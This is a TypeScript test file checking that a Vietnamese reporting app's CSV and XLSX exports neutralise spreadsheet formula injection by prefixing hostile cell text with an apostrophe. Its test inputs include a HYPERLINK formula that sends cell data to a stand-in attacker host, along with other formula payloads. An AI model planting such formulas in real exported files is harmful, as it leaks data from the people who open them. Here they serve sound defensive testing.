import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { auditCsv } from './audit-csv';
import { generateReport } from './reports/reports-service';
import { safeCell, safeText } from './safe-cell';
import type { Store } from './store/port';
import { FIXTURE_UNITS, fixtureAuth, fixtureDeps, fixtureStoreWithAccounts } from './testing/fixture';

const HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")', '+1', '@SUM(A1:A9)', '-2+3', '\t=1+1', '\r=1+1'];

describe('a spreadsheet cell', () => {
  it.each(HOSTILE)('writes text a spreadsheet would run as a formula (%j) behind an apostrophe', (text) => {
    expect(safeText(text)).toBe(`'${text}`);
  });

  it.each(['Phường Hoàn Kiếm', '', "'already quoted", 'a=b', ' =1', '2025-W31', '{"role":"admin"}'])('leaves other text as it is (%j)', (text) => {
    expect(safeText(text)).toBe(text);
  });

  it('leaves numbers, booleans and empty values alone, negative numbers too', () => {
    for (const value of [-2, 0, 3.5, -0.25, true, null, undefined]) expect(safeCell(value)).toBe(value);
  });
});

describe('the exports', () => {
  let store: Store;
  const [hoanKiem, cuaNam, socSon] = FIXTURE_UNITS as [(typeof FIXTURE_UNITS)[number], (typeof FIXTURE_UNITS)[number], (typeof FIXTURE_UNITS)[number]];
  const audit = { actor: 'test', action: 'unit.update', before: null, after: null, address: 'test' };

  beforeAll(async () => {
    store = await fixtureStoreWithAccounts();
    await store.saveUnit({ ...hoanKiem, name: HOSTILE[0] as string, headName: '+1' }, { ...audit, target: hoanKiem.code });
    await store.saveUnit({ ...cuaNam, name: '@SUM(A1:A9)', headName: '-2+3' }, { ...audit, target: cuaNam.code });
    await store.saveUnit({ ...socSon, name: '-2+3' }, { ...audit, target: socSon.code });
  });
  afterAll(() => store.close());

  it('the audit CSV neutralises a username typed at the sign-in form, and keeps ids as numbers', async () => {
    for (const username of HOSTILE.slice(0, 4)) await expect(fixtureAuth(store).login(username, 'whatever', '=1+1')).rejects.toThrow('Wrong username or password.');
    const csv = auditCsv(await store.listAudit(1000, 0)).replace(/^\uFEFF/, '');
    const rows = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true }).data;
    const failed = rows.filter((r) => r.action === 'auth.login-failed');
    expect(failed.map((r) => r.actor)).toEqual(expect.arrayContaining(HOSTILE.slice(0, 4).map((u) => `'${u}`)));
    expect(failed.every((r) => r.address === "'=1+1")).toBe(true);
    expect(rows.every((r) => /^\d+$/.test(r.id as string))).toBe(true);
    expect(csv).not.toMatch(/(^|,)"?[=+\-@]/m);
  });

  it('the weekly CSV neutralises unit and head names, and keeps figures as numbers', async () => {
    const record = await generateReport(fixtureDeps(store), { period: '2025-W31', format: 'csv', language: 'vi', regenerate: true, trigger: 'manual', actor: 'test' });
    const text = (await store.reportContent(record.id))?.content.toString('utf8').replace(/^\uFEFF/, '') ?? '';
    const rows = Papa.parse<Record<string, string>>(text, { header: true, skipEmptyLines: true }).data;
    const byCode = (code: string) => rows.find((r) => r.unit_code === code) as Record<string, string>;
    expect(byCode('00070')).toMatchObject({ unit_name: `'${HOSTILE[0]}`, head_name: "'+1" });
    expect(byCode('00082')).toMatchObject({ unit_name: "'@SUM(A1:A9)", head_name: "'-2+3" });
    expect(byCode('04144').unit_name).toBe("'-2+3");
    expect(byCode('00070').received).toMatch(/^\d+$/);
    expect(byCode('00070').online_rate).toMatch(/^\d+(\.\d+)?$/);
  });

  it('the weekly XLSX, read back, has the names as text behind an apostrophe and the figures as numbers', async () => {
    const record = await generateReport(fixtureDeps(store), { period: '2025-W31', format: 'xlsx', language: 'vi', regenerate: true, trigger: 'manual', actor: 'test' });
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await store.reportContent(record.id))?.content as unknown as ArrayBuffer);
    const sheet = wb.getWorksheet('Xã, phường') as ExcelJS.Worksheet;
    const rows = new Map<string, ExcelJS.Row>();
    sheet.eachRow((row, n) => n > 1 && rows.set(String(row.getCell(3).value), row));
    const hoanKiemRow = rows.get('00070') as ExcelJS.Row;
    expect(hoanKiemRow.getCell(4).value).toBe(`'${HOSTILE[0]}`);
    expect(hoanKiemRow.getCell(5).value).toBe("'+1");
    expect(rows.get('00082')?.getCell(4).value).toBe("'@SUM(A1:A9)");
    expect(rows.get('00082')?.getCell(5).value).toBe("'-2+3");
    expect(rows.get('04144')?.getCell(4).value).toBe("'-2+3");
    expect(typeof hoanKiemRow.getCell(6).value).toBe('number');
    expect(typeof hoanKiemRow.getCell(7).value).toBe('number');
    sheet.eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)));
    const flags = wb.getWorksheet('Cảnh báo') as ExcelJS.Worksheet;
    flags.eachRow((row, n) => n > 1 && expect(String(row.getCell(1).value)).toMatch(/^[^=+\-@]/));
  });
});
